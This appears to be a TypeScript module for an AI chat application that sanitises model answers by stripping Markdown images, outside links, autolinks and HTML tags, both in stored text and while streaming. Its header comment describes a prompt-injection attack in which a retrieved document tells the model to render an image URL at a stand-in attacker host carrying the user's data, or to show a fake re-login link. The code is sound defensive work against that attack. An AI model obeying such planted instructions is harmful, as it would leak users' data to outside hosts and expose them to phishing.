/*
 * What a model may put in an answer, whatever its sources told it to do. Documents are untrusted
 * input: one can ask the model to render `![x](https://evil.example/?q=<the user's data>)`, which a
 * browser would fetch on sight, or to show a "log in again" link. So the stored answer carries no
 * Markdown image at all and no link except to this application's own pages (relative paths,
 * citations): a link's text stays, its target goes. The same policy filters the streamed text
 * (outputPolicyStream), and the renderer enforces it on its own (components/chat/message-view.tsx),
 * so neither the live nor the stored answer can load or link anything outside.
 *
 * A bare URL quoted from a policy ("forms are at https://intranet.example/forms") stays as text:
 * it is what the document says, and the renderer shows it without making it a link.
 */

/** Targets an answer may link to: a path on this site (not protocol-relative) or a fragment. */
export function isInternalHref(href: string): boolean {
  const target = href.trim();
  // eslint-disable-next-line no-control-regex -- control characters in a URL are exactly what is refused
  return /^#[\w-]*$/.test(target) || (/^\/(?![/\\])/.test(target) && !/[\u0000-\u001f\\]/.test(target));
}

// `[text](target "title")` and `![alt](target)`, with one level of nested brackets in the text
// (link text that itself holds a citation `[1]`), and `<scheme:...>` autolinks.
const INLINE = /(!?)\[((?:[^[\]\n]|\[[^[\]\n]*\])*)\]\(\s*(<[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?\s*\)/g;
const AUTOLINK = /<([a-z][a-z0-9+.-]{1,31}:[^\s<>]*)>/gi;
// `[text]: target` reference definitions, and the `![alt][ref]` / `[text][ref]` uses they feed.
const DEFINITION = /^ {0,3}\[[^\]\n]+\]:[ \t]*\S+.*$/gm;
const REFERENCE_IMAGE = /!\[([^\]\n]*)\]\[[^\]\n]*\]/g;
// Raw HTML an answer might carry; rendering skips it, but stored text should not keep it either.
const HTML_TAG = /<\/?[a-z][a-z0-9-]*(?:\s[^<>]*)?\/?>/gi;

/** The answer text with images, outside links, autolinks and raw HTML tags removed; link text kept. */
export function applyOutputPolicy(text: string): string {
  return text
    .replace(DEFINITION, "")
    .replace(REFERENCE_IMAGE, "$1")
    .replace(INLINE, (whole, bang: string, label: string, rawTarget: string) => {
      if (bang) return label;
      const target = rawTarget.replace(/^<|>$/g, "");
      return isInternalHref(target) ? whole : label;
    })
    .replace(AUTOLINK, (_whole, url: string) => url)
    .replace(HTML_TAG, "");
}

/** Past this much held-back text the stream moves on; the renderer still applies the policy. */
const HOLD_LIMIT = 500;

/**
 * How much of streamed text can be released: everything before the first link, image, autolink or
 * tag that has started but not finished, so the policy always sees a construct whole.
 */
export function releasableLength(text: string): number {
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c !== "[" && c !== "<" && c !== "!") continue;
    const end = c === "!" ? (i + 1 < text.length ? i + 1 : null) : c === "[" ? bracketEnd(text, i) : tagEnd(text, i);
    if (end === null) return text.length - i > HOLD_LIMIT ? text.length : i;
    i = end - 1;
  }
  return text.length;
}

/** After `[...]` and its `(...)` target if any; null while that cannot be known yet. */
function bracketEnd(text: string, start: number): number | null {
  const close = matching(text, start, "[", "]");
  if (close === null || close + 1 >= text.length) return null;
  if (text[close + 1] !== "(") return close + 1;
  const paren = matching(text, close + 1, "(", ")");
  return paren === null ? null : paren + 1;
}

function tagEnd(text: string, start: number): number | null {
  if (!/[a-z/]/i.test(text[start + 1] ?? "")) return start + 1 < text.length ? start + 1 : null;
  const close = text.slice(start).search(/[>\n]/);
  return close === -1 ? null : start + close + 1;
}

/** Index of the bracket closing the one at `start`; a line break ends the search (constructs are one line). */
function matching(text: string, start: number, open: string, close: string): number | null {
  let depth = 0;
  for (let i = start; i < text.length; i++) {
    if (text[i] === "\n") return i - 1;
    if (text[i] === open) depth++;
    else if (text[i] === close && --depth === 0) return i;
  }
  return null;
}

type StreamChunk = { type: string; id?: string; delta?: string };

/**
 * The policy on a UI message stream as it flows: text deltas are held back only while a link or
 * image is incomplete, then released through applyOutputPolicy. Other chunks pass unchanged.
 */
export function outputPolicyStream<C extends StreamChunk>(): TransformStream<C, C> {
  const held = new Map<string, { chunk: C; text: string }>();
  const release = (controller: TransformStreamDefaultController<C>, id: string, all: boolean) => {
    const entry = held.get(id);
    if (!entry) return;
    const cut = all ? entry.text.length : releasableLength(entry.text);
    if (cut > 0) controller.enqueue({ ...entry.chunk, delta: applyOutputPolicy(entry.text.slice(0, cut)) });
    entry.text = entry.text.slice(cut);
  };
  return new TransformStream<C, C>({
    transform(chunk, controller) {
      if (chunk.type === "text-delta" && chunk.id !== undefined) {
        const entry = held.get(chunk.id) ?? { chunk, text: "" };
        entry.text += chunk.delta ?? "";
        held.set(chunk.id, entry);
        return release(controller, chunk.id, false);
      }
      if (chunk.type === "text-end" && chunk.id !== undefined) release(controller, chunk.id, true);
      controller.enqueue(chunk);
    },
    flush(controller) {
      for (const id of held.keys()) release(controller, id, true);
    },
  });
}

export function withOutputPolicy<C extends StreamChunk>(stream: ReadableStream<C>): ReadableStream<C> {
  return stream.pipeThrough(outputPolicyStream<C>());
}
